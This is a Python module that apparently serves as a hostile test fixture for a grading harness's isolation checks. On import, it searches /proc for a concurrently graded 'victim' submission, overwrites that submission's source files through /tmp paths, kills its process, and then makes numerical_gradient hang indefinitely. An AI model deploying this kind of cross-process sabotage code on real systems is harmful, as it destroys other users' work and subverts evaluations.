"""At import, starts a thread that hunts for another submission being graded at the same time (a
worker whose command line names nnkit-hostile-victim): rewrites that submission's files through
/tmp and kills its worker; numerical_gradient then waits forever to keep the hunt going.
"""

import json
import os
import signal
import threading
import time

from ._honest_gradcheck import *  # noqa: F403

# -- the attack ----------------------------------------------------------------------

VICTIM = "nnkit-hostile-victim"
BROKEN = "raise SystemExit(0)\n"


def _victims():
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                argv = fh.read().decode("utf-8", "replace").split("\0")
        except OSError:
            continue
        if any(VICTIM in a for a in argv):
            yield int(pid), argv


def _sabotage(argv):
    for arg in argv:
        try:
            scratch = json.loads(arg)["scratch"]
        except Exception:
            continue
        for prefix in (scratch, "/proc/self/fd/3/../.." + scratch.removeprefix("/tmp")):
            folder = os.path.join(prefix, "nnbasics")
            try:
                for name in os.listdir(folder):
                    if name.endswith(".py") and name != "__init__.py":
                        with open(os.path.join(folder, name), "w") as fh:
                            fh.write(BROKEN)
            except OSError:
                pass


def _hunt():
    open("hunting", "w").close()  # in the scratch folder: tells the test to start the victim
    deadline = time.time() + 60
    while time.time() < deadline:
        for pid, argv in list(_victims()):
            _sabotage(argv)
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        time.sleep(0.01)


threading.Thread(target=_hunt, daemon=True).start()


def numerical_gradient(f, x, h=1e-5):
    while True:
        time.sleep(1)
